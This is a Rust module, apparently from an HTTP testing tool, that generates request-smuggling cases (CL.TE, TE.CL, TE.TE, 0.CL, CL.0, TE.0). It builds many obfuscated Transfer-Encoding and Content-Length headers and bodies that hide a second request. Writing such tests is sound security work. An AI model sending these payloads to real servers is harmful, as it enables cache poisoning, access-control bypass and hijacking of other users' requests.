//! Which field frames the body: `Content-Length`, `Transfer-Encoding`, or none of them (RFC 9112
//! section 6.3).

use super::{Attack, CHUNKED, LAST, chunked, inner, length, message, open_inner, post, request};
use super::{INNER, OUTER};

pub(super) fn all() -> Vec<Attack> {
    [cl_te(), te_cl(), te_te(), zero_cl(), cl_zero(), te_zero()].concat()
}

/// Both fields: the end by the length is behind that by the chunks.
fn cl_te() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for hidden in [inner(), open_inner()] {
        let body = format!("{LAST}{hidden}");
        let length = length(&body);
        for fields in [[&length, CHUNKED], [CHUNKED, &length]] {
            attacks.push(Attack::new("CL.TE", post(&fields, &body)));
        }
        let two = [length.as_str(), "Content-Length: 5", CHUNKED];
        attacks.push(Attack::new("CL.TE", post(&two, &body)));
    }
    attacks
}

/// Both fields: the end by the length is within the chunks.
fn te_cl() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for body in [chunked(&inner()), chunked(&format!("{}x", open_inner()))] {
        // Up to the end of the size.
        let size = body.find('\n').map_or(0, |end| end + 1);
        let short = format!("Content-Length: {size}");
        for fields in [[&short, CHUNKED], [CHUNKED, &short], [CHUNKED, "Content-Length: 0"]] {
            attacks.push(Attack::new("TE.CL", post(&fields, &body)));
        }
    }
    attacks
}

/// `Transfer-Encoding` so that not all implementations recognize it.
fn te_te() -> Vec<Attack> {
    const OBFUSCATED: &[&str] = &[
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding:\tchunked",
        "Transfer-Encoding: chunked\t",
        "Transfer-Encoding: \u{b}chunked",
        "Transfer-Encoding: chunked\u{c}",
        "Transfer-Encoding: \"chunked\"",
        "Transfer-Encoding: CHUNKED",
        "Transfer-Encoding: chun ked",
        "Transfer-Encoding: chunked;q=1",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: identity, chunked",
        "Transfer-Encoding: gzip, chunked",
        "Transfer-Encoding: chunked, chunked",
        "Transfer-Encoding: ,chunked",
        "Transfer-Encoding: chunked,",
        "Transfer-Encoding: chunked\0",
        "Transfer-Encoding : chunked",
        "Transfer-Encoding\t: chunked",
        "Transfer-Encoding\0: chunked",
        "Transfer_Encoding: chunked",
        " Transfer-Encoding: chunked",
        "X-A: b\nTransfer-Encoding: chunked",
        "X-A: b\rTransfer-Encoding: chunked",
        "X-A: b\r\n Transfer-Encoding: chunked",
        "Transfer-Encoding:\r\n chunked",
        "Transfer-Encoding:\n chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
        "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding:\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding",
    ];
    let body = format!("{LAST}{}", inner());
    let whole = length(&body);
    let inside = chunked(&inner());
    let size = inside.find('\n').map_or(0, |end| end + 1);
    let short = format!("Content-Length: {size}");
    let attacks = OBFUSCATED.iter().flat_map(|field| {
        [
            post(&[&whole, field], &body),
            post(&[&short, field], &inside),
            post(&[field], &chunked("hello")),
        ]
    });
    attacks.map(|text| Attack::new("TE.TE", text)).collect()
}

/// A length that only one of both sees.
fn zero_cl() -> Vec<Attack> {
    let hidden = inner();
    let size = hidden.len();
    let fields = [
        format!("Content-Length : {size}"),
        format!("Content-Length\t: {size}"),
        format!("Content-Length\0: {size}"),
        format!(" Content-Length: {size}"),
        format!("X-A: b\r\n Content-Length: {size}"),
        format!("X-A: b\nContent-Length: {size}"),
        format!("X-A: b\rContent-Length: {size}"),
        format!("Content-Length:\r\n {size}"),
        format!("Content-Length:\n {size}"),
        format!("Content_Length: {size}"),
        format!("Content-Length: {size}\r\nConnection: Content-Length"),
        format!("Content-Length: +{size}"),
        format!("Content-Length: -{size}"),
        format!("Content-Length: 0{size}"),
        format!("Content-Length: 0x{size:x}"),
        format!("Content-Length: {size}, {size}"),
        format!("Content-Length: 0, {size}"),
        format!("Content-Length: {size};"),
        format!("Content-Length: \"{size}\""),
        format!("Content-Length: \u{b}{size}"),
        format!("Content-Length: {size} 0"),
        format!("Content-Length: {size}.0"),
        format!("Content-Length: {size}e0"),
        format!("Content-Length: {size}\r\nContent-Length: {size}"),
        format!("Content-Length: 0\r\nContent-Length: {size}"),
        format!("Content-Length: {size}\r\nContent-Length: 0"),
        format!("Content-Length:\r\nContent-Length: {size}"),
        format!("Content-Length: {}", (1_u128 << 64) + size as u128),
        format!("Content-Length: {}", (1_u128 << 32) + size as u128),
    ];
    let mut attacks = Vec::new();
    for method in ["GET", "POST"] {
        for field in &fields {
            let text = request(method, "/whole", &[field], &hidden);
            attacks.push(Attack::new("0.CL", text));
        }
    }
    // The field is the first one, so that it belongs to the request line for some.
    let line = format!("GET /whole?{OUTER} HTTP/1.1");
    let folded = format!(" Content-Length: {size}");
    attacks.push(Attack::new("0.CL", message(&line, &[&folded, "Host: test"], &hidden)));
    attacks
}

/// A server that ignores the body of some requests would read it as the next request.
fn cl_zero() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for hidden in [inner(), open_inner()] {
        let length = length(&hidden);
        for method in ["POST", "GET", "PUT", "DELETE", "OPTIONS", "BREW", "TRACE"] {
            for path in ["/early", "/nothing", "/missing", "/raw", "/stream", "/limited"] {
                attacks.push(Attack::new("CL.0", request(method, path, &[&length], &hidden)));
            }
        }
    }
    attacks
}

/// The same in chunks.
fn te_zero() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for method in ["POST", "GET", "OPTIONS", "DELETE"] {
        for path in ["/early", "/nothing", "/missing", "/raw", "/limited"] {
            let body = chunked(&inner());
            attacks.push(Attack::new("TE.0", request(method, path, &[CHUNKED], &body)));
        }
    }
    // The hidden request begins with the size of the next chunk for the one, and is data for the
    // other.
    let data = format!("\r\n{}", inner());
    let body = format!("{:x}{data}\r\n{LAST}", data.len());
    attacks.push(Attack::new("TE.0", request("POST", "/early", &[CHUNKED], &body)));
    let text = format!("OPTIONS * HTTP/1.1\r\nHost: test\r\nX-Own: {INNER}\r\n{CHUNKED}\r\n\r\n");
    let text = text.replace(INNER, OUTER);
    attacks.push(Attack::new("TE.0", text + &chunked(&inner())));
    attacks
}
